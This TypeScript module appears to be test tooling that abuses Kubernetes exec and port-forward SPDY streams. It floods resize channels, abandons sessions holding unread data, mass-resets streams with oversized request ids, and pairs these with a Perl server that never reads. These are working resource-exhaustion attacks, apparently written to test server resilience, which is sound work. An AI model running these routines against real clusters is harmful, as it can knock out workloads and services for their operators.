import { openAll, terminal } from './exec-clients.js';
import { spdyConnect, type SpdyClient } from './spdy-client.js';

/** A program in Perl for a pod: port 80 takes connections into a queue, and none is read. */
export const deafServer =
  'socket(S, 2, 1, 0); bind(S, pack("S n a4 x8", 2, 80, "\\0\\0\\0\\0")) or die $!; listen(S, 128); sleep 100000';

/** What attack-process.ts does, by name: a function below each. */
export const streamOffences = ['resizes', 'braces', 'sessions', 'halves', 'pairs'] as const;
export type StreamOffence = (typeof streamOffences)[number];

/** Gives the URL of a new session, each time. */
export type NewUrl = () => Promise<string>;

/** Writes to the resize channel of a terminal's exec until `until` is settled or so many bytes are sent. */
export async function floodResizes(url: string, text: string, bytes: number, until?: Promise<unknown>): Promise<void> {
  const { client, resize } = await openAll(url, terminal);
  const state = { isOver: false };
  const over = Promise.race([client.closed, ...(until ? [until] : [])]).then(() => (state.isOver = true));
  const chunk = text.repeat(Math.ceil(16_384 / text.length));
  // a server that does not read any more holds the client up
  for (let sent = 0; sent < bytes && !state.isOver; sent += chunk.length)
    await Promise.race([resize.write(chunk), over]);
  client.kill();
}

/** Opens port-forward sessions one after the other, writes to each what is not read there, and drops it. */
export async function dropSessions(url: NewUrl, port: number, count: number): Promise<void> {
  const unread = Buffer.alloc(512 * 1024);
  for (let each = 0; each < count; each += 1) {
    const client = await spdyConnect(await url(), ['portforward.k8s.io']);
    const data = await openPair(client, port, '0');
    // a server that does not read any more never takes all of it
    await Promise.race([data.write(unread), new Promise((resolve) => setTimeout(resolve, 20))]);
    client.kill();
  }
}

/** Opens the first stream of forwarded connections in one session and resets it. */
export async function resetHalves(url: NewUrl, port: number, count: number): Promise<void> {
  const client = await spdyConnect(await url(), ['portforward.k8s.io']);
  const state = { isOver: false };
  void client.closed.then(() => (state.isOver = true));
  const requestid = 'x'.repeat(7_900);
  for (let each = 0; each < count && !state.isOver; each += 1) {
    const headers = { streamtype: 'error', port: String(port), requestid: `${requestid}${each}` };
    const half = await Promise.race([client.open(headers), client.closed]);
    if (half) await Promise.race([half.reset(), client.closed]);
  }
  client.kill();
}

/** Opens forwarded connections in one session and resets each at once. Resolves with the session, which stands. */
export async function resetPairs(url: NewUrl, port: number, count: number): Promise<SpdyClient> {
  const client = await spdyConnect(await url(), ['portforward.k8s.io']);
  for (let each = 0; each < count; each += 1) await (await openPair(client, port, String(each))).reset();
  return client;
}

async function openPair(client: SpdyClient, port: number, requestid: string) {
  const headers = { port: String(port), requestid };
  await client.open({ ...headers, streamtype: 'error' });
  return client.open({ ...headers, streamtype: 'data' });
}
